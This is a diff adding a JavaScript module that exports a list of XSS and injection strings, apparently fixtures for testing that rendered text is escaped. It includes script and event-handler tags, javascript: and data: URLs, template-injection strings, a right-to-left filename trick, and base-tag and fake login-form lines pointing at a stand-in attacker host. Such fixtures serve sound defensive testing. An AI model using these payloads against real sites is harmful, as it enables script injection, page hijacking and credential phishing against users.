@@ -1,0 +1,23 @@
+// Texts that would run if anything on the way to the screen read them as markup or as an address.
+export const hostile = [
+  "<script>globalThis.pwned=1</script>",
+  "<img src=x onerror=globalThis.pwned=1>",
+  "<svg onload=globalThis.pwned=1>",
+  "\"><iframe srcdoc='<script>parent.pwned=1</script>'>",
+  "javascript:globalThis.pwned=1",
+  "[x](javascript:globalThis.pwned=1)",
+  "https://example.com/\"onmouseover=\"globalThis.pwned=1",
+  "<a href=\"javascript:globalThis.pwned=1\">x</a>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=globalThis.pwned=1>",
+  "<template><img src=x onerror=globalThis.pwned=1></template>",
+  "{{constructor.constructor('globalThis.pwned=1')()}}",
+  "${globalThis.pwned=1}",
+  "<style>*{background:url(javascript:globalThis.pwned=1)}</style>",
+  "<base href=//evil.example/>",
+  "<meta http-equiv=refresh content=\"0;url=javascript:globalThis.pwned=1\">",
+  "&lt;img src=x onerror=globalThis.pwned=1&gt;",
+  "<object data=\"data:text/html,<script>parent.pwned=1</script>\">",
+  "data:text/html,<script>globalThis.pwned=1</script>",
+  "\u202Egnp.exe\u202C <b>bold</b>",
+  "<form action=//evil.example><button>log in</button></form>",
+];
